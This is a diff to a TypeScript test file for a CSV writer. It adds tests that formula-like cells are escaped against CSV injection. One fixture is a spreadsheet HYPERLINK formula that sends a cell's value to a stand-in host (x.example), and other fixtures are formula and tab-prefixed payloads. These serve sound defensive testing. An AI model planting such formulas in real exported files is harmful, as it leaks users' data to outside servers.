@@ -5,7 +5,7 @@ import { join } from 'node:path';
 import { isDeepStrictEqual } from 'node:util';
 import { afterAll, describe, expect, it } from 'vitest';
 import { FileInputError, openCsv, type CsvReadOptions } from '../../src/files/csv-reader.js';
-import { CsvWriter, fileSink, formatCsvCell, formatCsvRow, functionSink } from '../../src/files/csv-writer.js';
+import { CsvWriter, fileSink, formatCsvCell, formatCsvRow, functionSink, neutralizeFormula } from '../../src/files/csv-writer.js';
 
 const dir = mkdtempSync(join(tmpdir(), 'matchbook-csv-'));
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
@@ -42,7 +42,27 @@ describe('formatCsvCell / formatCsvRow', () => {
     ['two\nlines', '"two\nlines"'],
     ['cr\r', '"cr\r"'],
     [' padded ', ' padded '],
+    // CSV injection (OWASP): formula starts get a leading ', plain numbers do not.
+    ['=HYPERLINK("http://x.example/?"&A1,"click")', '"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"'],
+    ['=1+1', "'=1+1"],
+    ['+1+1', "'+1+1"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(1,1)', '"\'@SUM(1,1)"'],
+    ['\tcmd', "'\tcmd"],
+    ['\r=1', '"\'\r=1"'],
+    ['-', "'-"],
+    ['+1 555 123 4567', "'+1 555 123 4567"],
+    ['-12.5', '-12.5'],
+    ['+15551234567', '+15551234567'],
+    ['a=1', 'a=1'],
   ])('%j -> %j', (value, expected) => expect(formatCsvCell(value)).toBe(expected));
+
+  it('every cell a spreadsheet would run as a formula is written as text', () => {
+    fc.assert(fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '1', 'A', '(', ')', '.', ' ', ',') }), (cell) => {
+      const out = neutralizeFormula(cell);
+      return !/^[=+\-@\t\r]/.test(out) || /^[+-]?(\d+(\.\d*)?|\.\d+)$/.test(out);
+    }));
+  });
 
   it('quotes the delimiter in use; a lone empty field is written as ""', () => {
     expect(formatCsvRow(['a;b', 'c,d'], ';')).toBe('"a;b";c,d');
@@ -150,7 +170,7 @@ describe('CSV round trip (property)', () => {
       const header = Array.from({ length: width }, (_, i) => `h${i}`);
       const text = [header, ...rows].map((r) => formatCsvRow(r, delimiter)).join('\n') + '\n';
       const r = await readAll(file(text), { chunkBytes, delimiter });
-      return isDeepStrictEqual(r.layout.header, header) && isDeepStrictEqual(r.rows, rows) &&
+      return isDeepStrictEqual(r.layout.header, header) && isDeepStrictEqual(r.rows, rows.map((row) => row.map(neutralizeFormula))) &&
         r.issues.shortRows.count === 0 && r.issues.longRows.count === 0 && r.issues.badQuotes.count === 0;
     }), { numRuns: 300 });
   });
